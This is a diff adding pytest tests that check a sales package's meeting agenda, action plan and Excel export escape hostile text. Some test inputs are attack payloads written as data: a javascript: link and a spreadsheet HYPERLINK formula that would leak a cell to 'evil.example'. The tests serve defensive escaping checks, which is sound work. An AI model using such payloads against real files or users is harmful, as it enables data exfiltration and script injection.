@@ -1,10 +1,13 @@
 """Meeting documents: the five points, the action plan, the team summary; escaping;
 template errors naming file and line; the Excel document reads back into the log."""
 
+import html
+import re
 import shutil
 
 import pandas as pd
 import pytest
+from hypothesis import given, settings, strategies as st
 
 import salesanalysis as sa
 from salesanalysis.store.roster import members
@@ -128,3 +131,95 @@ def test_write_pack_writes_the_agenda_plan_and_document(wb, tmp_path):
     assert [p.name for p in written] == ["R006.agenda.md", "R006.action-plan.md",
                                          "R006.action-plan.html", "R006.meeting.xlsx"]
     assert all(p.stat().st_size > 0 for p in written)
+
+
+MARKDOWN_HOSTILE = "**x** [a](javascript:alert(1)) _y_ `z` ![i](http://e/i.png)\n# Injected"
+
+
+def _html(markdown_text):
+    from markdown_it import MarkdownIt
+
+    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown_text)
+
+
+def test_markdown_shows_names_and_texts_as_typed(wb):
+    hostile = meeting.review_context(wb, rep="R002", period=PERIOD)
+    clean = {document: _html(meeting.render(document, hostile))
+             for document in ("agenda", "action_plan")}
+    hostile["rep"] = {**hostile["rep"], "name": MARKDOWN_HOSTILE, "team": "\r\n## Injected team"}
+    hostile["earlier"] = [{"text": MARKDOWN_HOSTILE, "owner": "- x", "due_at": "",
+                           "status": "open", "kpi": "", "kpi_before": "", "kpi_now": "",
+                           "moved": "", "criterion": "", "action_id": "A1"}]
+    hostile["actions"] = [{**a, "action": MARKDOWN_HOSTILE, "criterion": "1. first"}
+                          for a in hostile["actions"]]
+    for document in ("agenda", "action_plan"):
+        text = meeting.render(document, hostile)
+        assert "\\*\\*x\\*\\* \\[a\\](javascript:alert(1))" in text
+        assert not [line for line in text.splitlines()
+                    if line.lstrip("#").strip().startswith("Injected")]
+        page = _html(text)
+        for tag in ("<strong>", "<em>", "<code>", "<a ", "<img", "<ol>", "<blockquote>"):
+            assert page.count(tag) == clean[document].count(tag), (document, tag)
+        headings = re.findall(r"<h\d>", page)
+        assert headings == re.findall(r"<h\d>", clean[document])
+        assert "**x** [a](javascript:alert(1)) _y_ `z` ![i](http://e/i.png) # Injected" in page
+
+
+@pytest.fixture(scope="module")
+def one_value(tmp_path_factory):
+    """Templates that put ``value`` where the agenda puts data: a paragraph's start, a
+    list item, a heading and a table cell."""
+    folder = tmp_path_factory.mktemp("templates")
+    shutil.copytree(meeting.TEMPLATES, folder, dirs_exist_ok=True)
+    (folder / "agenda.md.j2").write_text(
+        "{{ value }}\n\n- item {{ value }}\n\n# heading {{ value }}\n\n"
+        "| head |\n|---|\n| {{ value|cell }} |\n")
+    return folder
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(list("ab1 _*[]()!#>-+=.`~|\\<&;:/$\n\r\t\x01é'\"{}")
+                                + ["&amp;", "&#65;", "http://", "<a>", "***", "---", "1."]),
+                max_size=12).map("".join))
+def test_any_text_shows_literally_wherever_it_lands(one_value, value):
+    page = _html(meeting.render("agenda", {"value": value}, templates=one_value))
+    shown = " ".join(value.replace("\x01", "\ufffd").split())
+    found = dict(re.findall(r"<(p|li|h1|td)>(.*?)</\1>", page, re.S))
+    assert set(found) == ({"li", "h1", "td"} | ({"p"} if shown else set())), page
+    prefix = {"p": "", "li": "item ", "h1": "heading ", "td": ""}
+    for tag, inner in found.items():
+        assert "<" not in inner, page  # no markup made from the text
+        assert " ".join(html.unescape(inner).split()) == (prefix[tag] + shown).strip(), page
+
+
+def test_the_meeting_document_keeps_formula_like_text_as_text(wb, tmp_path):
+    import openpyxl
+
+    texts = ['=HYPERLINK("http://evil.example/?leak="&B2,"Open")', "+1", "-1+2", "@A1"]
+    ids = [actions.add(wb, rep="R007", text=t, owner=t, period="2024-08") for t in texts]
+    path = meeting.meeting_document(wb, tmp_path / "R007.meeting.xlsx", rep="R007",
+                                    period=PERIOD)
+    cells = [c for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows()
+             for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    agenda = pd.read_excel(path, sheet_name="agenda")
+    assert set(texts) <= set(agenda["item"])
+    reps_before = wb.table("reps").to_pandas()
+    report = actions.import_file(wb, path)  # reads back: no text lost to a formula
+    log = actions.log(wb, rep="R007").set_index("action_id")
+    assert log.loc[ids, "text"].tolist() == log.loc[ids, "owner"].tolist() == texts
+    assert [r.table for r in report.results] == ["actions"]
+    assert {i.split("[")[1].split("]")[0] for i in report.ignored} == {"agenda", "read me"}
+    pd.testing.assert_frame_equal(wb.table("reps").to_pandas(), reps_before)
+
+
+def test_a_stored_control_character_does_not_break_the_pack(wb, tmp_path):
+    c0 = "".join(chr(c) for c in [*range(0x00, 0x09), 0x0b, 0x0c, *range(0x0e, 0x20)])
+    actions.add(wb, rep="R008", text="placeholder", period="2024-08")
+    row = actions.log(wb, rep="R008").assign(text=f"call{c0}back")
+    wb.import_data({"actions": row}, strict=True)  # as an older import could store it
+    written = meeting.write_pack(wb, rep="R008", period=PERIOD, stem=tmp_path / "R008")
+    shown = "call" + actions.PLACEHOLDER * len(c0) + "back"
+    sheet = pd.read_excel(written[-1], sheet_name="actions")
+    assert shown in set(sheet["text"])
+    assert shown in written[0].read_text(encoding="utf-8")  # the agenda
